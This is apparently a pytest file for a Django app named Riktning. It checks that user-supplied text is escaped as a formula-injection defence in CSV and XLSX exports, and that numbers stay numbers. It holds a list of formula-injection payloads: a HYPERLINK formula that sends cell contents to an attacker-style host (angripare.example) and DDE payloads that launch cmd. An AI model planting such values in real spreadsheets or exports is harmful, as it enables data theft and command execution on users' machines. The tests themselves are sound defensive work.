"""Formula injection (issue 11, item 2): text someone else typed never becomes a live formula in
a CSV or XLSX file Riktning writes, and numbers stay numbers.

The attack from the issue: someone holding only an association's personal reporting link reports
an activity titled `=HYPERLINK(…)`; it lands in the coordinator's export and, once the round is
closed, in the public one. Every export is opened the way a spreadsheet user's program reads it
(csv, openpyxl)."""

import csv
import datetime
import io
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from riktning.actionplans import services as plan_services
from riktning.activities.models import Activity
from riktning.indicators.constants import BatchSource
from riktning.indicators.models import Area
from riktning.indicators.services import record_observations
from riktning.indicators.sources import upload
from riktning.strategy.tests.factories import IndicatorFactory
from riktning.web.tests.plans_support import plans_world

PAYLOADS = [
    '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def world(orgs):
    return plans_world(orgs)


def _report_through_a_personal_link(world, personas, orgs) -> None:
    """The coordinator makes a link for Bildningsförvaltningen; whoever holds it reports one
    activity per payload (as name and description), with numbers."""
    response = personas["coordinator"].post(
        reverse("web:reporting_link_create", args=[world["open_round"].pk]),
        {"organisation": orgs["bildning"].pk},
    )
    token = str(list(response.wsgi_request._messages)[0]).split("/rapportera/")[1].split("/")[0]
    link = reverse("web:report_by_link", args=[token])
    for payload in PAYLOADS:
        data = {
            "name": payload,
            "description": payload,
            "reach": "universal",
            "participants": "20",
            "hours": "10.5",
            "cost_sek": "1000",
        }
        assert personas["anonymous"].post(link, data).status_code == 302
    assert Activity.objects.filter(name__in=PAYLOADS).count() == len(PAYLOADS)


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def _assert_planted_csv_rows_are_neutralised(rows: list[list[str]]) -> None:
    header = rows[0]
    name, description = header.index("Aktivitet"), header.index("Beskrivning")
    participants = header.index("Deltagare per år")
    planted = {row[name]: row for row in rows[1:] if row[description].lstrip("'") in PAYLOADS}
    assert set(planted) == {f"'{payload}" for payload in PAYLOADS}
    for payload in PAYLOADS:
        row = planted[f"'{payload}"]
        assert row[description] == f"'{payload}"
        assert row[participants] == "20", "a number is written as a number"


def _assert_planted_xlsx_cells_are_text(sheet) -> None:
    header = [cell.value for cell in sheet[1]]
    name, hours = header.index("Aktivitet"), header.index("Arbetstimmar per år")
    planted = [row for row in sheet.iter_rows(min_row=2) if row[name].value in PAYLOADS]
    assert sorted(row[name].value for row in planted) == sorted(PAYLOADS)
    for row in planted:
        assert row[name].data_type == "s", f"{row[name].value!r} must not be a formula"
        assert row[name].quotePrefix, "stays text when someone edits the cell"
        assert row[hours].data_type == "n"
        assert row[hours].value == 10.5


def test_a_formula_reported_through_a_personal_link_is_neutralised_in_the_coordinators_csv(
    world, personas, orgs
):
    _report_through_a_personal_link(world, personas, orgs)

    response = personas["coordinator"].get(reverse("web:activity_export", args=["csv"]))

    _assert_planted_csv_rows_are_neutralised(_csv_rows(response))


def test_a_formula_reported_through_a_personal_link_is_text_in_the_coordinators_xlsx(
    world, personas, orgs
):
    _report_through_a_personal_link(world, personas, orgs)

    response = personas["coordinator"].get(reverse("web:activity_export", args=["xlsx"]))

    _assert_planted_xlsx_cells_are_text(_sheet(response.content))


def test_once_the_round_is_closed_the_public_exports_are_neutralised_too(world, personas, orgs):
    _report_through_a_personal_link(world, personas, orgs)
    round_url = reverse("web:mapping_round_close", args=[world["open_round"].pk])
    assert personas["coordinator"].post(round_url).status_code == 302

    public_csv = personas["anonymous"].get(reverse("web:activity_export", args=["csv"]))
    public_xlsx = personas["anonymous"].get(reverse("web:activity_export", args=["xlsx"]))

    _assert_planted_csv_rows_are_neutralised(_csv_rows(public_csv))
    _assert_planted_xlsx_cells_are_text(_sheet(public_xlsx.content))


def test_a_control_character_in_a_reported_title_does_not_break_the_xlsx(world, personas, orgs):
    Activity.objects.filter(pk=world["social_activity"].pk).update(name="Föräldra\x07grupper")

    response = personas["coordinator"].get(reverse("web:activity_export", args=["xlsx"]))

    assert response.status_code == 200
    names = [row[0].value for row in _sheet(response.content).iter_rows(min_row=2)]
    assert "Föräldragrupper" in names


def test_the_action_plan_xlsx_writes_a_measure_titled_like_a_formula_as_text(world, personas):
    for payload in PAYLOADS:
        plan_services.add_measure(
            world["draft"],
            title=payload,
            description=payload,
            responsible=world["social_activity"].organiser,
            hours=Decimal("12.5"),
        )

    response = personas["coordinator"].get(
        reverse("web:action_plan_export", args=[world["draft"].pk, "xlsx"])
    )

    sheet = _sheet(response.content)
    planted = [row for row in sheet.iter_rows(min_row=2) if row[0].value in PAYLOADS]
    assert sorted(row[0].value for row in planted) == sorted(PAYLOADS)
    for row in planted:
        assert row[0].data_type == row[1].data_type == "s"
        assert row[0].quotePrefix and row[1].quotePrefix
        assert (row[5].data_type, row[5].value) == ("n", 12.5)


@pytest.fixture
def planted_indicator(db):
    """An indicator whose catalogue text is a formula, with a negative and a positive value."""
    indicator = IndicatorFactory(source_key='=HYPERLINK("https://angripare.example")')
    record_observations(
        [
            [
                (indicator.pk, "1287", 2022, "T", "", -1.5, "final"),
                (indicator.pk, "1287", 2023, "T", "", 2.25, "final"),
            ]
        ],
        source=BatchSource.MANUAL,
    )
    return indicator


def test_the_indicators_data_csv_neutralises_text_and_keeps_negative_numbers(
    client, planted_indicator
):
    response = client.get(reverse("web:indicator_data_csv", args=[planted_indicator.pk]))

    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw), delimiter=";"))
    assert {row["source_key"] for row in rows} == {'\'=HYPERLINK("https://angripare.example")'}
    assert [row["value"] for row in rows] == ["-1,5", "2,25"]


def test_the_command_line_export_neutralises_text_and_keeps_negative_numbers(planted_indicator):
    out = StringIO()
    call_command("export", "observations", "--format", "csv", stdout=out)

    rows = list(csv.DictReader(StringIO(out.getvalue())))
    assert {row["source_key"] for row in rows} == {'\'=HYPERLINK("https://angripare.example")'}
    assert [row["value"] for row in rows] == ["-1.5", "2.25"]


def test_the_upload_templates_neutralise_an_area_name_and_keep_negative_numbers(
    planted_indicator,
):
    Area.objects.filter(code="1287").update(title="@SUM(1+1)")
    template = upload.template_for(planted_indicator, "1287", today=datetime.date(2024, 6, 1))

    text = upload.template_csv(
        planted_indicator, template.area_codes, template.periods, template.values
    )
    sheet = _sheet(upload.template_xlsx(planted_indicator, template))

    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert {row[1] for row in rows[1:]} == {"'@SUM(1+1)"}
    assert [row[5] for row in rows[1:] if row[2:4] == ["2022", "T"]] == ["-1,5"]
    cells = list(sheet.iter_rows(min_row=2))
    assert {(row[1].value, row[1].data_type, row[1].quotePrefix) for row in cells} == {
        ("@SUM(1+1)", "s", True)
    }
    assert [r[5].value for r in cells if (r[2].value, r[3].value) == (2022, "T")] == [-1.5]
